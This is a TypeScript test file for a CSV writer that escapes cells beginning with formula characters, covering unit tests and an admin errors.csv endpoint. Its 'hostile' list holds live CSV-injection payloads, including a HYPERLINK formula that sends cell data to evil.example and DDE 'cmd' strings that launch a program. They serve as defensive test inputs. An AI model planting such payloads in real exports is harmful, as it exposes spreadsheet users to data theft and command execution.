// The feed errors CSV opened in a spreadsheet: a cell that starts with = + - @ TAB or CR is a
// formula there (OWASP "CSV injection"), so such cells get a leading single quote and are quoted.
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvCell, csvLine } from '../../src/admin/csv-writer.ts';
import { useTestDaemon } from '../helpers/daemon.ts';
import { until } from '../helpers/until.ts';

/** Skus a shop (or an attacker with its key) may send: each would run as a formula unescaped. */
const hostile = [
  '=HYPERLINK("http://evil.example/?x="&A1,"open")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

/** The rows of a CSV text, as a spreadsheet or any RFC 4180 reader splits them. */
const parseCsv = (text: string): string[][] => parse(text, { record_delimiter: '\r\n' }) as string[][];

describe('CSV writer', () => {
  it('neutralises a cell starting with each of = + - @ TAB CR: a leading quote, and the cell quoted', () => {
    for (const lead of ['=', '+', '-', '@', '\t', '\r']) {
      const value = `${lead}1+2`;
      expect(csvCell(value), JSON.stringify(lead)).toBe(`"'${value}"`);
    }
    expect(csvCell('=A1,"x"')).toBe(`"'=A1,""x"""`);
  });

  it('leaves other cells as RFC 4180 has them', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell(12)).toBe('12');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvLine(['x', '-1', 3])).toBe(`x,"'-1",3`);
  });
});

const TOKEN = 'admin-token-for-csv-tests-012345';
const daemon = await useTestDaemon({ env: { WAYBILL_ADMIN_TOKEN: TOKEN } });
const app = daemon.app!;

describe('GET /admin/api/feeds/{feed}/errors.csv', () => {
  it('writes hostile skus as text a spreadsheet will not evaluate', async () => {
    const { shopPk, auth } = await daemon.shopWithKey();
    // Updates naming skus the shop does not have: one item error per sku, each sku echoed.
    const put = await app.inject({
      method: 'PUT',
      url: `/shops/${shopPk}/products/`,
      headers: auth,
      payload: hostile.map((sku) => ({ sku, price: 1 })),
    });
    expect(put.statusCode, put.body).toBe(201);
    const feedPk = (put.json() as { pk: string }).pk;
    await until('the feed', async () => ['done', 'failed'].includes((await daemon.services.feeds.getAny(feedPk)).state));
    const csv = await app.inject({ url: `/admin/api/feeds/${feedPk}/errors.csv`, headers: { authorization: `Bearer ${TOKEN}` } });
    expect(csv.statusCode).toBe(200);
    const rows = parseCsv(csv.body);
    expect(rows[0]).toEqual(['index', 'sku', 'pk', 'pointer', 'code', 'message']);
    expect(rows.slice(1).map((r) => r[1])).toEqual(hostile.map((sku) => `'${sku}`));
    // No cell of any row starts with a formula character once parsed.
    for (const row of rows) for (const cell of row) expect(cell, JSON.stringify(row)).not.toMatch(/^[=+\-@\t\r]/);
  });
});
